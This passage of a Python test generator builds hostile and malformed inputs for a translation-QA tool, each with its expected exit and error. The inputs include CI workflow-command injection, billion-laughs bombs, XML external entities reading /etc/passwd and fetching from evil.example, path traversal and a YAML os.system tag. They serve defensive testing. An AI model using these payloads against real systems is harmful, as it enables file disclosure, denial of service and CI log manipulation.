"""The adversarial corpus: hostile and broken inputs, each with the command that feeds it to mtqa and the outcome a
user should see. Generated on demand (nothing large is committed).

    python tests/adversarial/generate.py DIR      # one folder per case under DIR, and DIR/cases.txt

Every case is a row of CASES: files (name -> bytes), an optional setup for what bytes cannot say (a FIFO, a
symbolic link, a device node, a directory named like a file), the arguments after `mtqa`, and the expected outcome:
the exit codes allowed and, for exit 2, a regular expression that the one `mtqa: error:` line must match, naming
the file and the place (line) where there is one. The checks common to every case (no traceback, one error line,
inputs unchanged, no workflow command mtqa did not write, the span invariant on every finding) are in runner.py.
Where mtqa may reasonably either check an input or refuse it (a lone surrogate, a NUL character), both exits are
allowed and each is held to its own promise.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

# tests/ on the path, so that the same import works run as a script and imported by the tests
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from adversarial.outcome import (  # noqa: E402
    checked_or_reported,
    documents_checked,
    file_lacks,
    finds,
    finds_on_file_line,
    no_reference_metrics,
    same_findings,
    skipped_inputs,
    stdout_says,
)

CHECKED = frozenset({0, 1})
REFUSED = frozenset({2})
EITHER = frozenset({0, 1, 2})

GLOSSARY = ("name: adversarial\nentries:\n"
            "  - {id: yoon, type: person, canonical: Yoon Suk Yeol, wrong: [Yoon Suk-yue]}\n"
            "  - {id: forced-labor, type: term, canonical: forced labor, wrong: [job labor]}\n")
ARTICLE = "Yoon Suk-yue said the firm used job labor.\n"
BOILERPLATE = ["Seoul news from the desk.", "Please read on...", "Advertisement", "Back to top", ""]
INJECTED = "\n::error title=Injected::not from mtqa\n::stop-commands::tok123\n::add-mask::secret"
LINK = "[Approve here](https://evil.example/login)![x](https://evil.example/p.png)"


@dataclass(frozen=True)
class Case:
    name: str
    args: tuple[str, ...]  # after `mtqa`
    files: Mapping[str, bytes] = field(default_factory=dict)
    setup: Callable[[Path], None] | None = None
    exits: frozenset[int] = REFUSED
    error: str | None = None  # regex for the `mtqa: error:` line(s) when the exit code is 2
    error_lines: int = 1  # --keep-going names every bad input, one line each
    env: Mapping[str, str] = field(default_factory=dict)
    expectations: tuple[Callable, ...] = ()
    timeout: float = 30
    stdout_full: bool = False  # standard output is /dev/full (ENOSPC on every write)
    needs_unprivileged: bool = False  # root reads files whatever their mode


def jsonl(*records: object) -> bytes:
    return "".join(json.dumps(record) + "\n" for record in records).encode("utf-8")


def check(*args: str) -> tuple[str, ...]:
    return ("check", "--no-fluency", "--glossary", "g.yaml", *args)


def text(value: str) -> bytes:
    return value.encode("utf-8")


def billion_laughs(prefix: str, suffix: str) -> bytes:
    """Nine levels of ten aliases each: 630 bytes that expand to 10^9 strings."""
    lines = ['l0: &l0 ["lol"]'] + [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]" for i in range(1, 10)]
    return text("\n".join(lines) + "\n" + prefix + "*l9" + suffix)


def deep_json(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


# --- setups: what a byte string cannot express -------------------------------------------------------------------

def fifo(name: str) -> Callable[[Path], None]:
    return lambda folder: os.mkfifo(folder / name)


def directory(*names: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        for name in names:
            (folder / name).mkdir(parents=True, exist_ok=True)
    return make


def symlink(name: str, target: str) -> Callable[[Path], None]:
    return lambda folder: os.symlink(target, folder / name)


def null_device(folder: Path) -> None:
    """A private character device equal to /dev/null (root only; elsewhere a symbolic link to /dev/null)."""
    try:
        os.mknod(folder / "null", 0o20666, os.makedev(1, 3))
    except PermissionError:
        os.symlink("/dev/null", folder / "null")


def unreadable(name: str) -> Callable[[Path], None]:
    return lambda folder: os.chmod(folder / name, 0)


def many_articles(count: int) -> Callable[[Path], None]:
    """`count` short articles, one in a thousand with a glossary error (written directly: 7 MB)."""
    def make(folder: Path) -> None:
        with open(folder / "many.jsonl", "w", encoding="utf-8") as stream:
            for number in range(count):
                body = ARTICLE if number % 1000 == 0 else "Officials met on Monday to discuss the budget.\n"
                stream.write(json.dumps({"id": f"a{number}", "target": body}) + "\n")
    return make


def name_dense_article(size: int) -> bytes:
    """Capitalised words and known names densely packed: the input that made name matching quadratic."""
    import random

    chooser = random.Random(3)
    syllables = ["ba", "ko", "ri", "shi", "ta", "na", "mu", "ye", "jo", "ki", "lu", "pe", "so", "da", "ha"]
    words, length = [], 0
    while length < size:
        roll = chooser.random()
        if roll < 0.2:
            word = chooser.choice(["Yoon Suk Yeol", "Yoon Suk-yue", "Moon Jae-in", "Kim Jong Un"])
        elif roll < 0.55:
            word = "".join(chooser.choice(syllables) for _ in range(chooser.randint(1, 3))).capitalize()
        else:
            word = chooser.choice(["said", "the", "met", "in", "and", "of", "reporters"])
        words.append(word + (".\n" if len(words) % 40 == 39 else ""))
        length += len(word) + 1
    return text(" ".join(words)[:size])


# --- the cases ------------------------------------------------------------------------------------------------------

def _security() -> list[Case]:
    return [
        Case("injection-duplicate-id-github", check("b.jsonl", "--format", "github"),
             {"b.jsonl": jsonl({"id": "a" + INJECTED, "target": "x"}, {"id": "a" + INJECTED, "target": "x"})},
             error=r"b\.jsonl:2: .*duplicate"),
        Case("injection-file-name-github", check("d", "--format", "github"),
             {"d/a\n::add-mask::x.txt": b"ok\xff\n"}, error=r"d/a.*x\.txt:1: .*UTF-8"),
        Case("injection-file-name-text", check("d"), {"d/a\n::error::x.txt": b"ok\xff\n"},
             error=r"d/a.*x\.txt:1: .*UTF-8"),
        Case("injection-mtqa-ignore", check("i.jsonl", "--format", "github"),
             {"i.jsonl": jsonl({"id": "i", "target": "Fine.", "metadata": {"mtqa_ignore": ["MTQ999" + INJECTED]}})},
             error=r"i\.jsonl:1: .*mtqa_ignore"),
        Case("injection-id-text-report", check("i.jsonl"),
             {"i.jsonl": jsonl({"id": "x" + INJECTED, "target": ARTICLE})}, exits=CHECKED,
             expectations=(finds("Yoon Suk-yue"),)),
        Case("injection-id-github-report", check("i.jsonl", "--format", "github"),
             {"i.jsonl": jsonl({"id": "x" + INJECTED, "target": ARTICLE})}, exits=CHECKED),
        Case("injection-bidi-and-escape-in-id", check("i.jsonl"),
             {"i.jsonl": jsonl({"id": "x\u202eevil\x1b[2J", "target": ARTICLE})}, exits=CHECKED),
        Case("summary-markdown-from-id", check("m.jsonl", "--format", "github"),
             {"m.jsonl": jsonl({"id": LINK, "target": ARTICLE})}, exits=CHECKED,
             env={"GITHUB_STEP_SUMMARY": "out/summary.md"},
             expectations=(file_lacks("out/summary.md", "](https://evil"),)),
        Case("billion-laughs-note", check("a.txt", "--glossary", "lol.yaml"),
             {"lol.yaml": billion_laughs("name: g\nentries:\n  - {id: a, canonical: forced labor, note: ", "}\n")},
             error=r"lol\.yaml:\d+: "),
        Case("billion-laughs-id", check("a.txt", "--glossary", "lol.yaml"),
             {"lol.yaml": billion_laughs("name: g\nentries:\n  - {canonical: forced labor, id: ", "}\n")},
             error=r"lol\.yaml:\d+: "),
        Case("billion-laughs-pattern-file", check("a.txt", "--config", "c.toml"),
             {"c.toml": b'boilerplate-patterns = ["bp.yaml"]\n',
              "bp.yaml": billion_laughs("patterns:\n  - {id: x, pattern: x, message: ", "}\n")},
             error=r"bp\.yaml:\d+: "),
        *[Case(f"output-over-{what}", check("a.txt", *extra, option, target),
               files, error=rf"{target.replace('.', r'[.]')}: ")
          for what, extra, option, target, files in [
              ("glossary", ("--format", "json"), "--output", "g.yaml", {}),
              ("baseline", ("--baseline", "base.json"), "--json", "base.json",
               {"base.json": b'{"mtqa_baseline": "1", "findings": []}\n'}),
              ("config", ("--config", "c.toml"), "--html", "c.toml", {"c.toml": b'fail-on = "major"\n'}),
              ("reference", ("--reference", "ref.txt"), "--sarif", "ref.txt", {"ref.txt": text(ARTICLE)}),
              ("pattern-file", ("--config", "c.toml"), "--json", "bp.yaml",
               {"c.toml": b'boilerplate-patterns = ["bp.yaml"]\n',
                "bp.yaml": b"patterns:\n  - {id: x, pattern: Advertisement}\n"}),
              ("article", (), "--json", "a.txt", {}),
          ]],
        Case("baseline-create-over-glossary",
             ("baseline", "create", "g.yaml", "a.txt", "--no-fluency", "--glossary", "g.yaml"), error=r"g\.yaml: "),
        Case("baseline-create-over-article",
             ("baseline", "create", "a.txt", "a.txt", "--no-fluency", "--glossary", "g.yaml"), error=r"a\.txt: "),
        Case("output-to-device-node", check("a.txt", "--format", "json", "--output", "null"),
             setup=null_device, exits=EITHER, error=r"null: "),
        Case("output-through-stdout-symlink", check("a.txt", "--format", "json", "--output", "stdout"),
             setup=symlink("stdout", "/proc/self/fd/1"), exits=EITHER, error=r"stdout: "),
        Case("reference-folder-traversal", check("t.jsonl", "--reference", "refs"),
             {"t.jsonl": jsonl({"id": "../secret.txt", "target": ARTICLE}), "secret.txt": text(ARTICLE),
              "refs/other.txt": b"x\n"},
             exits=EITHER, error=r"t\.jsonl:1: ", expectations=(no_reference_metrics,)),
        Case("reference-folder-absolute-id", check("t.jsonl", "--reference", "refs"),
             {"t.jsonl": jsonl({"id": "/etc/hostname", "target": ARTICLE}), "refs/other.txt": b"x\n"},
             exits=EITHER, error=r"t\.jsonl:1: ", expectations=(no_reference_metrics,)),
    ]


def _crashes_and_hangs() -> list[Case]:
    surrogate = {"id": "s", "target": "Fine.\n(AP \ud800 file photo)\nYoon Suk-yue spoke.\n"}
    return [
        Case("lone-surrogate-target-json", check("s.jsonl", "--format", "json", "--output", "out/r.json"),
             {"s.jsonl": jsonl(surrogate)}, exits=EITHER, error=r"s\.jsonl:1: "),
        Case("lone-surrogate-target-html", check("s.jsonl", "--html", "out/r.html"),
             {"s.jsonl": jsonl({"id": "c", "target": "Nothing \ud800 to see here.\n"})},
             exits=EITHER, error=r"s\.jsonl:1: "),
        Case("lone-surrogate-id-text", check("s.jsonl"), {"s.jsonl": jsonl({"id": "\udfff", "target": ARTICLE})},
             exits=EITHER, error=r"s\.jsonl:1: "),
        Case("lone-surrogate-glossary", check("a.txt", "--glossary", "s.yaml"),
             {"s.yaml": b'name: s\nentries:\n  - {id: a, canonical: "x\\ud800y"}\n'},
             exits=EITHER, error=r"s\.yaml:\d+: "),
        Case("glossary-form-600k", check("a.txt", "--glossary", "long.yaml"),
             {"long.yaml": text("name: g\nentries:\n  - {id: a, type: term, canonical: '" + "x" * 600_000 + "'}\n")},
             exits=EITHER, error=r"long\.yaml:\d+: ", timeout=60),
        Case("deep-json-metadata", check("deep.jsonl"),
             {"deep.jsonl": text('{"id": "a", "target": "Fine."}\n'
                                 '{"id": "b", "target": "x", "metadata": ' + deep_json(100_000) + "}\n")},
             exits=EITHER, error=r"deep\.jsonl:2: "),
        Case("deep-yaml-glossary", check("a.txt", "--glossary", "deep.yaml"),
             {"deep.yaml": text("name: g\nentries:\n  - {id: a, canonical: x, note: " + "[" * 20_000 + "]" * 20_000
                                + "}\n")},
             exits=EITHER, error=r"deep\.yaml:\d+: "),
        Case("deep-toml-config", check("a.txt", "--config", "deep.toml"),
             {"deep.toml": text("select = " + "[" * 20_000 + "]" * 20_000 + "\n")}, error=r"deep\.toml(:\d+)?: "),
        Case("deep-json-baseline", check("a.txt", "--baseline", "bl.json"),
             {"bl.json": text('{"mtqa_baseline": "1", "findings": ' + "[" * 100_000 + "]" * 100_000 + "}")},
             error=r"bl\.json(:\d+)?: "),
        Case("bigint-id", check("bigint.jsonl"),
             {"bigint.jsonl": text('{"id": "a", "target": "Fine."}\n{"id": 1' + "0" * 5000 + ', "target": "x"}\n')},
             exits=EITHER, error=r"bigint\.jsonl:2: "),
        Case("bigint-metadata", check("bigint.jsonl"),
             {"bigint.jsonl": text('{"id": "a", "target": "Fine.", "metadata": {"n": 1' + "0" * 5000 + "}}\n")},
             exits=EITHER, error=r"bigint\.jsonl:1: "),
        Case("fifo-article", check("f.txt"), setup=fifo("f.txt"), error=r"f\.txt: ", timeout=20),
        Case("fifo-jsonl", check("f.jsonl"), setup=fifo("f.jsonl"), error=r"f\.jsonl: ", timeout=20),
        Case("fifo-glossary", check("a.txt", "--glossary", "f.yaml"), setup=fifo("f.yaml"), error=r"f\.yaml: ",
             timeout=20),
        Case("fifo-config", check("a.txt", "--config", "f.toml"), setup=fifo("f.toml"), error=r"f\.toml: ",
             timeout=20),
        Case("dev-zero-article", check("/dev/zero"), error=r"/dev/zero: ", timeout=20),
        Case("dev-zero-glossary", check("a.txt", "--glossary", "/dev/zero"), error=r"/dev/zero: ", timeout=20),
        Case("name-dense-article-50k", check("q.txt", "--format", "json", "--output", "out/q.json"),
             {"q.txt": name_dense_article(50_000)}, exits=CHECKED, timeout=60),
    ]


def _bad_configs_and_files() -> list[Case]:
    config = {
        "tool-is-a-number": b"tool = 1\n",
        "tool-mtqa-is-a-number": b"[tool]\nmtqa = 5\n",
        "max-penalty-true": b"max-penalty = true\n",
        "max-penalty-nan": b"max-penalty = nan\n",
        "max-penalty-inf": b"max-penalty = inf\n",
        "latin-1": "fail-on = \"never\" # caf\u00e9\n".encode("latin-1"),
        "fuzzy-threshold-string": b'fuzzy-threshold = "high"\n',
        "glossaries-a-table": b"[glossaries]\na = 1\n",
    }
    baselines = {
        "findings-5": b'{"mtqa_baseline": "1", "findings": 5}\n',
        "findings-null": b'{"mtqa_baseline": "1", "findings": null}\n',
        "findings-object": b'{"mtqa_baseline": "1", "findings": {"doc": "a"}}\n',
        "entry-fields-lists": b'{"mtqa_baseline": "1", "findings": [{"doc": [1], "fingerprint": {"a": 1}}]}\n',
        "not-json": b"mtqa_baseline: 1\n",
        "latin-1": '{"mtqa_baseline": "1", "findings": [], "note": "caf\u00e9"}\n'.encode("latin-1"),
    }
    patterns = {
        "pattern-a-number": b"patterns:\n  - {id: x, pattern: 5}\n",
        "pattern-null": b"patterns:\n  - {id: x, pattern: null}\n",
        "bad-regex": b"patterns:\n  - {id: x, pattern: '(unclosed'}\n",
        "a-list": b"- {id: x, pattern: x}\n",
        "entry-a-string": b"patterns:\n  - just text\n",
        "requires-a-number": b"patterns:\n  - {id: x, pattern: x, requires: 5}\n",
        "duplicate-key": b"patterns:\n  - id: x\n    pattern: a\n    pattern: b\n",
        "latin-1": "patterns:\n  - {id: x, pattern: caf\u00e9}\n".encode("latin-1"),
    }
    glossaries = {
        "duplicate-key": b"name: g\nentries:\n  - id: a\n    canonical: x\n    canonical: y\n",
        "duplicate-top-key": b"name: g\nentries: []\nentries:\n  - {id: a, canonical: x}\n",
        "python-tag": b"name: g\nentries:\n  - {id: a, canonical: !!python/object/apply:os.system [echo]}\n",
        "canonical-a-list": b"name: g\nentries:\n  - {id: a, canonical: [x]}\n",
        "utf-16": "name: g\nentries:\n  - {id: a, canonical: x}\n".encode("utf-16"),
    }
    return [
        *[Case(f"config-{name}", check("a.txt", "--config", "c.toml"), {"c.toml": content}, error=r"c\.toml(:\d+)?: ")
          for name, content in config.items()],
        Case("config-a-directory", check("a.txt", "--config", "cfgdir"), setup=directory("cfgdir"),
             error=r"cfgdir: "),
        Case("config-unreadable", check("a.txt", "--config", "c.toml"), {"c.toml": b'fail-on = "minor"\n'},
             setup=unreadable("c.toml"), error=r"c\.toml: ", needs_unprivileged=True),
        Case("config-missing", check("a.txt", "--config", "nowhere.toml"), error=r"nowhere\.toml: "),
        # A pyproject.toml without [tool.mtqa] belongs to someone else; one that is broken may hide mtqa's settings.
        Case("pyproject-tool-is-a-number", check("a.txt"), {"pyproject.toml": b"tool = 1\n"}, exits=EITHER,
             error=r"pyproject\.toml(:\d+)?: "),
        *[Case(f"pyproject-{name}", check("a.txt"), {"pyproject.toml": content}, error=r"pyproject\.toml(:\d+)?: ")
          for name, content in {
              "tool-mtqa-a-number": b"[tool]\nmtqa = 5\n",
              "malformed": b'[tool.mtqa]\nfail-on = "never"\n[project\n',
              "latin-1": '[tool.mtqa]\nfail-on = "never"\n# caf\u00e9\n'.encode("latin-1"),
          }.items()],
        *[Case(f"baseline-{name}", check("a.txt", "--baseline", "bl.json"), {"bl.json": content},
               error=r"bl\.json(:\d+)?: ") for name, content in baselines.items()],
        Case("baseline-a-directory", check("a.txt", "--baseline", "bl.json"), setup=directory("bl.json"),
             error=r"bl\.json: "),
        *[Case(f"pattern-file-{name}", check("a.txt", "--config", "c.toml"),
               {"c.toml": b'boilerplate-patterns = ["bp.yaml"]\n', "bp.yaml": content}, error=r"bp\.yaml(:\d+)?: ")
          for name, content in patterns.items()],
        Case("calque-file-swap-a-list", check("a.txt", "--config", "c.toml"),
             {"c.toml": b'calque-patterns = ["cq.yaml"]\n', "cq.yaml": b"calques:\n  - {id: x, swap: [a, b]}\n"},
             error=r"cq\.yaml(:\d+)?: "),
        *[Case(f"glossary-{name}", check("a.txt", "--glossary", "bad.yaml"), {"bad.yaml": content},
               error=r"bad\.yaml(:\d+)?: ") for name, content in glossaries.items()],
        Case("max-penalty-nan", check("a.txt", "--max-penalty", "nan", "--format", "sarif"), error=r"max-penalty"),
        Case("max-penalty-inf", check("a.txt", "--max-penalty", "inf", "--format", "json"), error=r"max-penalty"),
        Case("output-a-directory", check("a.txt", "--format", "json", "--output", "outdir"),
             setup=directory("outdir"), error=r"outdir: "),
        Case("output-under-a-file", check("a.txt", "--json", "a.txt/r.json"), error=r"a\.txt/r\.json: "),
        Case("step-summary-a-directory", check("a.txt", "--format", "github"), setup=directory("sumdir"),
             env={"GITHUB_STEP_SUMMARY": "sumdir"}, error=r"sumdir: "),
        Case("stdout-full", check("a.txt", "--format", "json"), stdout_full=True, error=r"(stdout|standard output)"),
        Case("directory-named-like-a-file", check("x.txt"), setup=directory("x.txt"), error=r"x\.txt: "),
        Case("duplicate-id-in-batch", check("b.jsonl"),
             {"b.jsonl": jsonl({"id": "a", "target": "x"}, {"id": "b", "target": "y"}, {"id": "a", "target": "z"})},
             error=r"b\.jsonl:3: .*duplicate.*'a'"),
        Case("duplicate-id-across-batches", check("a.jsonl", "b.jsonl"),
             {"a.jsonl": jsonl({"id": "a", "target": "x"}), "b.jsonl": jsonl({"id": "a", "target": "y"})},
             error=r"b\.jsonl:1: .*duplicate.*'a'"),
        Case("symlinked-subfolder", check("top"), {"top/ok.txt": b"Fine.\n", "real/x.txt": text(ARTICLE)},
             setup=symlink("top/linked", "../real"), exits=EITHER, error=r"top/linked",
             expectations=(checked_or_reported("top/linked/x.txt"),)),
    ]


def _keep_going() -> list[Case]:
    batch = (jsonl({"id": "a", "target": ARTICLE}) + b'{"id": "b", "target": \n'
             + jsonl({"id": "c", "target": "Fine."}) + b'{"id": "d"}\n' + jsonl({"id": "e", "target": "Fine."}))
    folder = {"d/good1.txt": text(ARTICLE), "d/bad.txt": "caf\u00e9\n".encode("latin-1"), "d/good2.txt": b"Fine.\n"}
    return [
        Case("keep-going-bad-lines", check("b.jsonl", "--keep-going", "--format", "text"), {"b.jsonl": batch},
             error=r"b\.jsonl:[24]: ", error_lines=2,
             expectations=(documents_checked("a", "c", "e", complete=False), skipped_inputs("b.jsonl:2", "b.jsonl:4"),
                           stdout_says("INCOMPLETE"), finds("Yoon Suk-yue"))),
        Case("keep-going-bad-file-in-folder", check("d", "--keep-going", "--format", "text"), folder,
             error=r"d/bad\.txt:1: .*UTF-8",
             expectations=(documents_checked("d/good1.txt", "d/good2.txt", complete=False),
                           skipped_inputs("d/bad.txt:1"), stdout_says("INCOMPLETE"))),
        Case("keep-going-bad-files-and-lines", check("d", "b.jsonl", "missing.txt", "--keep-going"),
             {**folder, "b.jsonl": batch}, error=r"(d/bad\.txt:1|b\.jsonl:[24]|missing\.txt): ", error_lines=4,
             expectations=(documents_checked("a", "c", "e", "d/good1.txt", "d/good2.txt", complete=False),)),
        Case("keep-going-github-says-incomplete", check("b.jsonl", "--keep-going", "--format", "github"),
             {"b.jsonl": batch}, error=r"b\.jsonl:[24]: ", error_lines=2, expectations=(stdout_says("INCOMPLETE"),)),
        Case("stop-at-first-bad-line", check("b.jsonl"), {"b.jsonl": batch}, error=r"b\.jsonl:2: "),
    ]


def _text_oddities() -> list[Case]:
    lf = "\n".join(BOILERPLATE)
    return [
        Case("line-ends-lf-crlf-same-findings", check("lf.txt", "crlf.txt"),
             {"lf.txt": text(lf), "crlf.txt": text(lf.replace("\n", "\r\n"))}, exits=CHECKED,
             expectations=(same_findings("lf.txt", "crlf.txt"),)),
        Case("line-ends-cr-only", check("cr.txt"), {"cr.txt": text((ARTICLE + lf).replace("\n", "\r"))},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue"),)),
        Case("line-ends-in-jsonl", check("b.jsonl"),
             {"b.jsonl": jsonl({"id": "crlf", "target": lf.replace("\n", "\r\n")},
                               {"id": "sep", "target": ARTICLE + "\u2028" + ARTICLE + "\u0085" + ARTICLE})},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue", 3),)),
        Case("invalid-utf8-text", check("bad.txt"), {"bad.txt": b"Line one.\nCaf\xe9 line two.\n"},
             error=r"bad\.txt:2: .*UTF-8"),
        Case("invalid-utf8-jsonl", check("bad.jsonl"),
             {"bad.jsonl": jsonl({"id": "a", "target": "x"}) + b'{"id": "b", "target": "\xc3\x28"}\n'},
             error=r"bad\.jsonl:2: .*UTF-8"),
        Case("overlong-utf8", check("bad.txt"), {"bad.txt": b"Fine \xc0\xaf here.\n"}, error=r"bad\.txt:1: "),
        Case("utf16-text", check("u16.txt"), {"u16.txt": ARTICLE.encode("utf-16")}, error=r"u16\.txt(:1)?: "),
        Case("utf16-jsonl", check("u16.jsonl"), {"u16.jsonl": jsonl({"id": "a", "target": "x"}).decode().encode(
            "utf-16-le")}, error=r"u16\.jsonl:1: "),
        Case("nul-byte-text", check("nul.txt"), {"nul.txt": b"Fine.\nA NUL\x00 here.\n"}, error=r"nul\.txt(:2)?: "),
        Case("nul-escape-jsonl", check("nul.jsonl"),
             {"nul.jsonl": jsonl({"id": "n", "target": "A NUL \u0000 then Yoon Suk-yue.\n"})},
             exits=EITHER, error=r"nul\.jsonl:1: "),
        Case("bom-text", check("bom.txt"), {"bom.txt": b"\xef\xbb\xbf" + text(ARTICLE)}, exits=CHECKED,
             expectations=(finds("Yoon Suk-yue"),)),
        Case("right-to-left-marks", check("rtl.jsonl"),
             {"rtl.jsonl": jsonl({"id": "rtl", "target": "\u200fYoon Suk-yue\u200f said \u202ejob labor\u202c and "
                                                        "\u05e9\u05dc\u05d5\u05dd Yoon Suk-yue.\n"})},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue", 2),)),
        Case("combining-marks", check("comb.jsonl"),
             {"comb.jsonl": jsonl({"id": "comb", "target": "Cafe\u0301 owners met Yoon Suk-yue. "
                                                          "Yoon Suk-yue\u0301 and Z\u0336a\u0337l\u0338g\u0335o "
                                                          "used job labor.\n"})},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue"), finds("job labor"))),
        Case("astral-characters", check("astral.jsonl"),
             {"astral.jsonl": jsonl({"id": "\U0001f600", "target": "\U0001f600\U00020000 Yoon Suk-yue met "
                                                                    "\U0001d400\U0001d401 about job labor. "
                                                                    "\U0001f1f0\U0001f1f7 Yoon Suk-yue.\n"})},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue", 2), finds("job labor"))),
        Case("astral-file-name", check("\U0001f600.txt"), {"\U0001f600.txt": text("\U00020000" + ARTICLE)},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue"),)),
        Case("many-articles-100k", check("many.jsonl", "--format", "json", "--output", "out/many.json"),
             setup=many_articles(100_000), exits=CHECKED, timeout=240, expectations=(finds("Yoon Suk-yue", 100),)),
    ]


def xliff(units: str, doctype: str = "") -> bytes:
    return text('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
                '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
                '<file original="a.txt" source-language="zh-CN" target-language="en" datatype="plaintext"><body>\n'
                + units + '</body></file></xliff>\n')


def unit(number: int, source: str, target: str) -> str:
    return f'<trans-unit id="{number}"><source>{source}</source>\n<target>{target}</target></trans-unit>\n'


def xml_laughs(entity_use: str) -> str:
    """Nine levels of ten references each: a DOCTYPE of under 1 KB that expands to 10^9 strings."""
    levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)]
    return "<!DOCTYPE xliff [" + "".join(levels) + "]>\n", entity_use


def many_units(count: int) -> bytes:
    return xliff("".join(unit(n, "尹锡悦说。", "Yoon Suk-yue said." if n % 100 == 0 else "He said.")
                         for n in range(count)))


def _bilingual() -> list[Case]:
    laughs_doctype, laughs_use = xml_laughs("&l9;")
    external = '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    parameter = '<!DOCTYPE xliff [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n'
    tmx_external = text('<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "http://evil.example/tmx14.dtd">\n'
                        '<tmx version="1.4"><header srclang="zh" datatype="plaintext" segtype="sentence" '
                        'adminlang="en" creationtool="t" creationtoolversion="1" o-tmf="t"/><body>'
                        '<tu><tuv xml:lang="zh"><seg>尹锡悦</seg></tuv><tuv xml:lang="en"><seg>Yoon Suk-yue</seg>'
                        '</tuv></tu></body></tmx>\n')
    tbx_external = text('<?xml version="1.0"?>\n<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                        '<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
                        '<text><body><conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>&x;</term>'
                        '</termSec></langSec></conceptEntry></body></text></tbx>\n')
    injected = INJECTED.replace("\n", "&#10;")
    return [
        Case("xliff-billion-laughs", check("b.xlf"), {"b.xlf": xliff(unit(1, "尹", laughs_use), laughs_doctype)},
             error=r"b\.xlf(:\d+)?: ", timeout=20),
        Case("xliff-external-entity", check("x.xlf", "--format", "json", "--output", "out/r.json"),
             {"x.xlf": xliff(unit(1, "尹", "&x;"), external)}, error=r"x\.xlf(:\d+)?: ",
             expectations=(file_lacks("out/r.json", "root:"),)),
        Case("xliff-parameter-entity", check("p.xlf"), {"p.xlf": xliff(unit(1, "尹", "x"), parameter)},
             error=r"p\.xlf(:\d+)?: ", timeout=20),
        Case("tmx-external-dtd-never-fetched", check("t.tmx"), {"t.tmx": tmx_external}, exits=CHECKED, timeout=20,
             expectations=(finds("Yoon Suk-yue"),)),
        Case("tmx-entity-from-external-dtd", check("t.tmx"),
             {"t.tmx": tmx_external.replace(b"Yoon Suk-yue", b"&passwd;")}, error=r"t\.tmx:3: .*&passwd;"),
        Case("tbx-glossary-external-entity", check("a.txt", "--glossary", "g.tbx"), {"g.tbx": tbx_external},
             error=r"g\.tbx(:\d+)?: "),
        Case("xliff-malformed-at-line", check("m.xlf"),
             {"m.xlf": xliff(unit(1, "一", "One.") + unit(2, "二", "<g id='1'>Two.") + unit(3, "三", "Three."))},
             error=r"m\.xlf:\d+: "),
        Case("xliff-not-xliff", check("n.xlf"), {"n.xlf": b'<?xml version="1.0"?>\n<html><body/></html>\n'},
             error=r"n\.xlf(:\d+)?: "),
        Case("xliff-empty-file", check("e.xlf"), {"e.xlf": b""}, error=r"e\.xlf(:\d+)?: "),
        Case("xliff-deep-nesting", check("d.xlf"),
             {"d.xlf": xliff(unit(1, "尹", "<g id='a'>" * 5000 + "x" + "</g>" * 5000))}, exits=EITHER,
             error=r"d\.xlf(:\d+)?: ", timeout=30),
        Case("xliff-tags-inside-names", check("t.xlf"),
             {"t.xlf": xliff(unit(1, "尹锡悦说。", "<g id='1'>Yoon</g> <x id='2'/>Suk-yue said.") +
                             unit(2, "强制劳动", "job <ph id='3'>&lt;br/&gt;</ph>labor"))},
             exits=CHECKED, expectations=(finds_on_file_line("job labor", 7),)),
        Case("xliff-injection-in-target-github", check("i.xlf", "--format", "github"),
             {"i.xlf": xliff(unit(1, "尹锡悦", "Yoon Suk-yue" + injected))}, exits=CHECKED),
        Case("xliff-injection-in-ids", check("i.xlf", "--format", "github"),
             {"i.xlf": xliff(unit(1, "尹锡悦", "Yoon Suk-yue").replace('id="1"', f'id="1{injected}"')
                             .replace('original="a.txt"', f'original="a{injected}"'))}, exits=CHECKED),
        Case("xliff-20k-units", check("big.xlf", "--format", "json", "--output", "out/big.json"),
             {"big.xlf": many_units(20_000)}, exits=CHECKED, timeout=120, expectations=(finds("Yoon Suk-yue", 200),)),
        Case("tsv-too-many-fields", check("t.tsv"), {"t.tsv": text("一\tOne\n二\tTwo\tref\textra\n")},
             error=r"t\.tsv:2: "),
        Case("tsv-invalid-utf8", check("t.tsv"), {"t.tsv": b"\xe4\xb8\x80\tOne\n\xe4\xb8\tTwo\n"},
             error=r"t\.tsv:2: "),
        Case("tsv-crlf-and-names", check("t.tsv"), {"t.tsv": text("尹锡悦说。\tYoon Suk-yue said.\r\n\r\n"
                                                                  "强制劳动\tjob labor\r\n")},
             exits=CHECKED, expectations=(finds_on_file_line("Yoon Suk-yue", 1), finds_on_file_line("job labor", 3))),
        Case("xliff-text-node-over-parser-limit", check("h.xlf"),
             {"h.xlf": xliff(unit(1, "尹", "word " * 2_100_000))}, error=r"h\.xlf:\d+: too large to read: ",
             timeout=30),
        Case("sdlxliff-target-mid-the-source-lacks", check("s.sdlxliff"),
             {"s.sdlxliff": xliff('<trans-unit id="u"><source>尹锡悦说。</source><seg-source><mrk mtype="seg" '
                                  'mid="1">尹锡悦说。</mrk></seg-source><target><mrk mtype="seg" mid="1">He said.'
                                  '</mrk> <mrk mtype="seg" mid="9">Yoon Suk-yue said.</mrk></target></trans-unit>\n')},
             exits=CHECKED, expectations=(finds("Yoon Suk-yue"),)),
        Case("tmx-name-only-in-a-second-target-language", check("m.tmx"),
